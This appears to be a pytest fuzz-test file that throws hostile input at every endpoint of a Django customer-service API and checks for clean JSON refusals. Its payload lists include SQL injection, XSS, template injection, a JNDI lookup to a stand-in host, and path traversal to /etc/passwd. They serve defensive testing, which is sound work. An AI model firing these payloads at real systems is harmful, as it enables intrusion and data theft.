"""Hostile input against EVERY operation of the OpenAPI schema: nothing may answer 5xx, and
every refusal is JSON with a ``detail``.

The operations are read from ``api.get_openapi_schema()``, so an endpoint added later is
attacked without touching this file. Bodies are built from the operation's own request
schema: first a plausible body, then each field replaced in turn by wrong types, huge,
SQL-ish, script and odd-Unicode values.
"""

import itertools
import json
from datetime import date, timedelta
from urllib.parse import quote

import pytest
from django.core.cache import cache
from django.test import Client
from django.utils import timezone

from kefu.api import api
from kefu.org.models import Department, Role
from kefu.surveys.services import batch_create, parse_items, questionnaire_create
from kefu.testing import PASSWORD, api_auth, make_category, make_customer, make_site, make_staff, make_ticket
from kefu.tickets.lifecycle import ACTIONS, TRANSITIONS
from kefu.tickets.models import Complaint, ComplaintProposal, Handover, Ticket, WarningCard
from kefu.tickets.services.policies import sla_policy_save, warning_rules_save
from kefu.visits.models import Visit

pytestmark = pytest.mark.django_db

SCHEMA = api.get_openapi_schema()
OPERATIONS = sorted(
    (method.upper(), path)
    for path, methods in SCHEMA["paths"].items()
    for method in methods
    if method in ("get", "post", "put", "patch", "delete")
)

HUGE = "客" * 100_000
# Sent to every field whatever its type.
COMMON = [None, True, 0, -1, 1.5, 2**63, 10**30, [], {}, {"$gt": ""}, HUGE, "' OR '1'='1' --"]
COMMON += ["<script>alert(1)</script>", "\x00", "a\x00b", "\ud800", "\udfff\ud800"]
# And by the field's type.
STRINGS = [
    "",
    "   ",
    "1; DROP TABLE tickets_ticket; --",
    '" UNION SELECT password FROM auth_user --',
    '"><img src=x onerror=alert(1)>',
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "\u202eevil\u202c",
    "\u200b\ufeff",
    "😀" * 300,
    "Ａｄｍｉｎ１２３",
    "e\u0301\u0301\u0301",
    "\r\n\t",
]
NUMBERS = [-(10**30), 2**64, 1e308, -0.0, 0.1, "1", "-1", "1e5", "NaN", "Infinity", "１２", "0x10"]
ARRAYS = [[1, "a"], [[[[[]]]]], [HUGE], ["\x00"], [{}] * 50, list(range(1000)), ["' OR 1=1 --"] * 3]


def hostile_values(schema):
    schema = resolve(schema)
    kinds = {resolve(s).get("type") for s in schema.get("anyOf", [schema])}
    values = list(COMMON)
    if "string" in kinds:
        values += STRINGS
    if kinds & {"integer", "number"}:
        values += NUMBERS
    if "array" in kinds:
        values += ARRAYS
    return values


PATH_VALUES = ["0", "-1", "abc", "1.5", "99999999999999999999999", str(2**63), str(2**63 - 1), "1 OR 1=1", "'", "１２"]
PATH_VALUES += ["<script>", "%00", "\u202e", "😀", "null", "true", " 1", "1e3", "0x10", "+1"]
RAW_BODIES = [
    b"{bad",
    b"",
    b"null",
    b"[]",
    b'"text"',
    b"123",
    b"true",
    b"{",
    b'{"a": }',
    b"\xff\xfe\x00\x00",
    b'{"version": NaN, "text": Infinity}',
    b"[" * 100_000,
    b'{"a": ' + b"9" * 20_000 + b"}",
    b'{"a": "\\ud800"}',
    b'{"a": 1, "a": 2}',
    '{"text": "客"}'.encode("utf-16"),
]


@pytest.fixture(autouse=True)
def _clear_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def world():
    site = make_site()
    eng = Department.objects.create(name="工程部", kind="engineering")
    director = make_staff(Role.DIRECTOR, sites=[site])
    tech = make_staff(Role.TECHNICIAN, sites=[site], department=eng)
    category = make_category("水电", department=eng)
    customer = make_customer(site, director, room=("1", "2", "301"), tags=["VIP"])
    ticket = make_ticket(site, director, customer=customer, category=category)
    colleague = make_staff(Role.AGENT, sites=[site])
    handover = Handover.objects.create(
        ticket=ticket, from_staff=colleague, to_staff=director, by=colleague, reason="轮休"
    )
    visit = Visit.objects.create(
        site=site,
        ticket=ticket,
        customer=customer,
        contact_phone="13800138000",
        assignee=director,
        due_at=timezone.now() + timedelta(days=3),
    )
    card = WarningCard.objects.create(
        key="hostile", site=site, ticket=ticket, staff=tech, color="yellow", rule="resolve"
    )
    # A site's own time limit and warning rules, for the DELETE endpoints.
    policy = sla_policy_save(
        site=site, kind="repair", urgency="low", respond_minutes=30, resolve_minutes=60, actor=director
    )
    rules = warning_rules_save(
        site=site,
        blue_minutes=60,
        prewarn_percent=80,
        manager_after_minutes=120,
        director_after_minutes=480,
        red_after_minutes=1440,
        actor=director,
    )
    # A questionnaire handed out to building 1, for the survey endpoints.
    questionnaire = questionnaire_create(title="满意度调查", items=parse_items("满意度|总体满意度"), actor=director)
    batch = batch_create(
        questionnaire=questionnaire,
        site=site,
        name="调查",
        starts_on=date.today(),
        ends_on=date.today() + timedelta(days=2),  # never before today in the site's time zone
        target="building",
        buildings=["1"],
        actor=director,
    )
    # A monthly report, for the report endpoints.
    from kefu.reports.models import MonthlyReport

    monthly = MonthlyReport.objects.create(site=site, month=date.today().replace(day=1), status="ready")
    # An appraisal period, computed, and a score sheet for everyone, for the appraisal endpoints.
    from kefu.appraisal.models import Appraisal
    from kefu.appraisal.services import period_compute, period_create, sheet_template_create

    today = date.today()
    period = period_create(name="本月", start=today.replace(day=1), end=today, sites=[site], actor=director)
    period_compute(period=period)
    sheet = sheet_template_create(name="通用评分表", role="", items=[("服务态度", "礼貌规范", 10)], actor=director)
    return {
        "period": period,
        "result": Appraisal.objects.get(period=period, staff=tech),
        "sheet": sheet,
        "monthly": monthly,
        "questionnaire": questionnaire,
        "batch": batch,
        "visit": visit,
        "policy": policy,
        "rules": rules,
        "card": card,
        "colleague": colleague,
        "handover": handover,
        "site": site,
        "department": eng,
        "director": director,
        "tech": tech,
        "category": category,
        "customer": customer,
        "unit": customer.unit_links.get().unit,
        "ticket": ticket,
        "proposal_id": 424242,
        "client": Client(),
        "headers": api_auth(director),
    }


# --- building requests from the schema ----------------------------------------------------


def resolve(schema):
    while isinstance(schema, dict) and "$ref" in schema:
        schema = SCHEMA["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    return schema


def body_schema(method, path):
    operation = SCHEMA["paths"][path][method.lower()]
    content = operation.get("requestBody", {}).get("content", {})
    if "application/json" not in content:
        return None
    return resolve(content["application/json"]["schema"])


def ids_for(world):
    return {
        "site_id": world["site"].id,
        "category_id": world["category"].id,
        "customer_id": world["customer"].id,
        "unit_id": world["unit"].id,
        "department_id": world["department"].id,
        "assignee_id": world["tech"].id,
        "ticket_id": world["ticket"].id,
        "card_id": world["card"].id,
        "visit_id": world["visit"].id,
        "handover_id": world["handover"].id,
        "to_id": world["colleague"].id,
        "from_id": world["director"].id,  # 离职交接: the director's customers (none) go to the colleague
        "classification_id": world["category"].id,
        "responsible_department_id": world["department"].id,
        "responsible_person_id": world["tech"].id,
        "proposal_id": world["proposal_id"],
        "policy_id": world["policy"].id,
        "rules_id": world["rules"].id,
        "questionnaire_id": world["questionnaire"].id,
        "batch_id": world["batch"].id,
        "report_id": world["monthly"].id,
        "period_id": world["period"].id,
        "staff_id": world["tech"].id,
        "result_id": world["result"].id,  # the technician's appraisal: the director scores and signs it
        "template_id": world["sheet"].id,
        "role": "agent",  # a scheme's role, and a score-sheet template's
    }


def current_version(world, path):
    if "{visit_id}" in path:
        return Visit.objects.get(pk=world["visit"].pk).version
    if "{customer_id}" in path:
        return type(world["customer"]).objects.get(pk=world["customer"].pk).version
    return Ticket.objects.get(pk=world["ticket"].pk).version


# Fields whose plausible value the type alone does not tell.
_numbers = itertools.count(10_000_000)
KNOWN = {
    "phones": lambda: [f"139{next(_numbers)}"],  # unique: a number belongs to one customer
    "contact_phone": lambda: "13800138000",
    "password": lambda: PASSWORD,
    "fee": lambda: None,
    "work_hours": lambda: "1.5",
    "work_notes": lambda: "更换阀芯",
    "note": lambda: "已处理",
    "at": lambda: None,
    "notified_at": lambda: None,
    "penalty_amount": lambda: None,
    "proposals": lambda: ["当面致歉并返工"],
    "arrive_minutes": lambda: None,  # only repairs have one, and the plausible kind is inquiry
    "buildings": lambda: ["1"],  # the fixture's customer lives in building 1
    "tag_id": lambda: None,
    "answers": lambda: [{"no": 1, "choice": 5}],
    "ends_on": lambda: (date.today() + timedelta(days=2)).isoformat(),  # not before the site's today
    "end": lambda: (date.today() + timedelta(days=2)).isoformat(),  # a visit plan's end, likewise
    "script_id": lambda: None,  # a visit plan's script: the default one
    "day": lambda: date.today().isoformat(),  # a ledger entry: not after today
    "points": lambda: "5",
    "amount": lambda: None,
    "items": lambda: [{"section": "服务态度", "text": "接听电话礼貌规范", "max_score": 10}],  # a score sheet's
    "weights": lambda: {"handled": 20, "on_time": 30, "satisfaction": 30, "visits_on_time": 10, "first_contact": 10},
    "card_points": lambda: {"blue": 1, "yellow": 3, "red": 10},
}


def plausible(name, schema, world, path):
    """A value for one field that the endpoint would probably accept."""
    if name == "version":
        return current_version(world, path)
    if name in ids_for(world):
        return ids_for(world)[name]
    if name == "username":
        return world["director"].user.username
    if name == "customer_ids" and path.endswith("/customers/assign"):  # at least one, of the caller's site
        return [world["customer"].id]
    if name == "at" and "/visits/" in path:  # an appointment: some time tomorrow
        return (timezone.now() + timedelta(days=1)).isoformat()
    if name == "scores" and "{result_id}" in path:  # every item of the fixture's score sheet
        return {str(item.id): 1 for item in world["sheet"].items.all()}
    if name in KNOWN:
        return KNOWN[name]()
    if schema.get("default") is not None:
        return schema["default"]
    schema = resolve(schema)
    for combinator in ("anyOf", "allOf", "oneOf"):
        if combinator in schema:
            options = [resolve(s) for s in schema[combinator] if resolve(s).get("type") != "null"]
            schema = options[0] if options else {}
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    if kind == "integer":
        return 1
    if kind == "number":
        return 1
    if kind == "boolean":
        return False
    if kind == "array":
        return []
    if kind == "object":
        return {}
    if schema.get("format") == "date":
        return date.today().isoformat()
    return "测试内容"


def ready_for(world, path):
    """Put the ticket in a kind and status from which the path's command is allowed, so the
    hostile value reaches the service instead of stopping at "not in this status"."""
    if path.endswith("/hand-over"):  # one open hand-over per ticket: clear the fixture's
        Handover.objects.filter(pk=world["handover"].pk).update(state="declined")
    action = path.rstrip("/").rsplit("/", 1)[-1].replace("-", "_")
    if action == "major":  # marking a complaint major: any open complaint
        Ticket.objects.filter(pk=world["ticket"].pk).update(kind="complaint", status="received")
        return
    if action not in ACTIONS or "{ticket_id}" not in path:
        return
    kind, status = next((k, s) for k, table in TRANSITIONS.items() for (s, a) in table if a == action)
    if path.startswith("/api/v1/complaints/"):
        kind = "complaint"
        status = next(s for (s, a) in TRANSITIONS[kind] if a == action)
        # The round of proposals an instruction picks from.
        complaint, _ = Complaint.objects.get_or_create(ticket=world["ticket"], defaults={"round": 1})
        ComplaintProposal.objects.get_or_create(
            pk=world["proposal_id"],
            defaults={"complaint": complaint, "round": 1, "text": "方案", "proposed_by": world["director"]},
        )
    Ticket.objects.filter(pk=world["ticket"].pk).update(
        kind=kind, status=status, suspended_from="dispatched", assignee=None, department=world["department"]
    )


def plausible_body(method, path, world):
    schema = body_schema(method, path)
    if schema is None:
        return None
    return {name: plausible(name, prop, world, path) for name, prop in schema.get("properties", {}).items()}


def concrete_path(path, world, override=None):
    ids = ids_for(world)

    def fill(segment):
        if segment.startswith("{") and segment.endswith("}"):
            name = segment[1:-1]
            return quote(override, safe="") if override is not None else str(ids.get(name, 1))
        return segment

    return "/".join(fill(s) for s in path.split("/"))


def query_params(method, path):
    operation = SCHEMA["paths"][path][method.lower()]
    return [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"]


def send(world, method, url, *, body=None, raw=None, query=None, headers=None, content_type="application/json"):
    client = world["client"]
    headers = world["headers"] if headers is None else headers
    if raw is None and body is not None:
        raw = json.dumps(body).encode()
    if method == "GET":
        return client.get(url, query or {}, **headers)
    return client.generic(method, url, raw or b"", content_type=content_type, **headers)


def check(response, label, failures):
    """< 500, and every refusal is JSON with a Chinese ``detail``."""
    where = f"{label} → {response.status_code}"
    if response.status_code >= 500:
        failures.append(f"{where}: {response.content[:300]!r}")
        return
    if response.status_code >= 400:
        try:
            body = json.loads(response.content)
        except ValueError:
            failures.append(f"{where}: not JSON: {response.content[:200]!r}")
            return
        if not isinstance(body, dict) or not isinstance(body.get("detail"), str) or not body["detail"]:
            failures.append(f"{where}: no detail: {body!r:.200}")
    elif (
        response.status_code != 204
        and response.content
        and not response.get("Content-Type", "").startswith(("application/json",))
    ):
        failures.append(f"{where}: success that is not JSON")


def short(value):
    text = repr(value)
    return text if len(text) < 40 else text[:37] + "..."


# --- the attacks --------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path"), OPERATIONS)
def test_without_or_with_bad_credentials(world, method, path):
    failures = []
    url = concrete_path(path, world)
    body = plausible_body(method, path, world)
    public = not SCHEMA["paths"][path][method.lower()].get("security")
    for header in [None, "Bearer", "Bearer " + HUGE, "Bearer ' OR 1=1 --", "Basic YTpi", "Bearer \x7f\x01"]:
        headers = {} if header is None else {"HTTP_AUTHORIZATION": header}
        response = send(world, method, url, body=body, headers=headers)
        check(response, f"{method} {path} auth={short(header)}", failures)
        if not public and response.status_code != 401:
            failures.append(f"{method} {path} auth={short(header)}: expected 401, got {response.status_code}")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("method", "path"), [op for op in OPERATIONS if body_schema(*op) is not None])
def test_malformed_bodies(world, method, path):
    failures = []
    url = concrete_path(path, world)
    for raw in RAW_BODIES:
        ready_for(world, path)
        check(send(world, method, url, raw=raw), f"{method} {path} raw={short(raw)}", failures)
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        response = send(world, method, url, raw=b"a=1&b=2", content_type=content_type)
        check(response, f"{method} {path} content-type={content_type}", failures)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("method", "path"), [op for op in OPERATIONS if body_schema(*op) is not None])
def test_every_body_field_with_hostile_values(world, method, path):
    failures = []
    url = concrete_path(path, world)
    fields = body_schema(method, path).get("properties", {})
    for name, schema in fields.items():
        for value in hostile_values(schema):
            ready_for(world, path)
            body = plausible_body(method, path, world)
            body[name] = value
            check(send(world, method, url, body=body), f"{method} {path} {name}={short(value)}", failures)
        ready_for(world, path)
        body = plausible_body(method, path, world)
        del body[name]
        check(send(world, method, url, body=body), f"{method} {path} without {name}", failures)
    body = plausible_body(method, path, world)
    body["unexpected_field"] = HUGE
    check(send(world, method, url, body=body), f"{method} {path} extra field", failures)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("method", "path"), [op for op in OPERATIONS if "{" in op[1]])
def test_hostile_path_ids(world, method, path):
    failures = []
    body = plausible_body(method, path, world)
    for value in PATH_VALUES:
        url = concrete_path(path, world, override=value)
        check(send(world, method, url, body=body), f"{method} {url}", failures)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("method", "path"), [op for op in OPERATIONS if query_params(*op)])
def test_hostile_query_parameters(world, method, path):
    failures = []
    url = concrete_path(path, world)
    # One 100k value per operation below: unquoting a 900 kB query string is the slow part.
    values = ["", "客" * 2000, "' OR 1=1 --", "<script>alert(1)</script>", "\x00", "\u202e", "😀" * 300, "１２"]
    values += ["-1", "0", "abc", "1.5", "99999999999999999999999", "2026-02-30", "yes", "null"]
    for name in query_params(method, path):
        for value in values:
            check(send(world, method, url, query={name: value}), f"{method} {path}?{name}={short(value)}", failures)
        check(send(world, method, url, query={name: ["1", "2"]}), f"{method} {path}?{name}=1&{name}=2", failures)
    everything = dict.fromkeys(query_params(method, path), "' OR 1=1 --")
    check(send(world, method, url, query=everything), f"{method} {path} all params", failures)
    first = query_params(method, path)[0]
    check(send(world, method, url, query={first: HUGE}), f"{method} {path}?{first}=<100k>", failures)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(("method", "path"), OPERATIONS)
def test_as_a_field_role_with_another_sites_ids(world, method, path):
    """A technician of another site sending otherwise plausible requests: refused cleanly."""
    outsider = make_staff(Role.TECHNICIAN, sites=[make_site()], department=world["department"])
    response = send(
        world, method, concrete_path(path, world), body=plausible_body(method, path, world), headers=api_auth(outsider)
    )
    failures = []
    check(response, f"{method} {path} as outsider", failures)
    assert not failures, "\n".join(failures)
    if "{ticket_id}" in path or "{customer_id}" in path:
        assert response.status_code in (404, 422), response.content


@pytest.mark.parametrize("path", sorted(SCHEMA["paths"]))
def test_undeclared_methods_are_json_405(world, path):
    declared = {m.upper() for m in SCHEMA["paths"][path]}
    url = concrete_path(path, world)
    failures = []
    for method in sorted({"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} - declared):
        response = send(world, method, url, body={})
        check(response, f"{method} {path}", failures)
        if response.status_code != 405:
            failures.append(f"{method} {path}: expected 405, got {response.status_code}")
    assert not failures, "\n".join(failures)


def test_the_schema_lists_the_operations_we_attack():
    assert len(OPERATIONS) >= 25
    assert ("POST", "/api/v1/tickets/{ticket_id}/dispatch") in OPERATIONS
    # Every report endpoint, read from the schema like the rest, so the attacks above reach it.
    reports = {path for method, path in OPERATIONS if method == "GET" and path.startswith("/api/v1/reports/")}
    names = "dashboard volume pareto sla workload resolution complaints satisfaction cards monthly monthly/{report_id}"
    assert reports >= {f"/api/v1/reports/{name}" for name in names.split()}


@pytest.mark.parametrize(("method", "path"), [op for op in OPERATIONS if op != ("DELETE", "/api/v1/auth/token")])
def test_plausible_requests_succeed_so_the_attacks_reach_the_services(world, method, path):
    """If this fails for a new endpoint, teach ``plausible``/``ids_for``/``KNOWN`` its fields:
    otherwise the hostile values above stop at the first validation and test little."""
    ready_for(world, path)
    response = send(world, method, concrete_path(path, world), body=plausible_body(method, path, world))
    assert response.status_code < 300, response.content
